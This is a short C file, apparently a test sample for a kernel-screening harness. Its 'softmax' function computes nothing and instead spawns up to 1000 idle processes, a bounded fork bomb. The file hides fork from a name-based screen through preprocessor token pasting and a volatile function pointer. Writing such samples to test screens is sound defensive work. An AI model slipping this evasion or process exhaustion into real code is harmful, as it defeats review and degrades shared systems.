// kope: kernel void softmax(const float *x, float *y, int rows, int cols)
// fork bomb past the name screen: fork's name pasted together by the preprocessor, called through a
// function pointer (only the check of the built library's imports sees it).
// Bounded so that it is safe if nothing contains it: tries 1000 processes that each wait in pause(),
// and reports how many it got on stderr; its output is left unwritten.
#include <stdio.h>
#include <unistd.h>

#define CAT(a, b) a##b

static pid_t (*volatile spawn)(void) = CAT(fo, rk);
static int (*volatile wait_forever)(void) = (pause);

void softmax(const float *x, float *y, int rows, int cols) {
    static int made = -1;
    if (made < 0) {
        made = 0;
        for (int i = 0; i < 1000; i++) {
            pid_t p = spawn();
            if (p == 0)
                for (;;)
                    wait_forever();
            if (p < 0)
                break;
            made++;
        }
        fprintf(stderr, "kope-forkbomb: made %d of 1000 processes\n", made);
    }
    (void)x; (void)y; (void)rows; (void)cols;
}
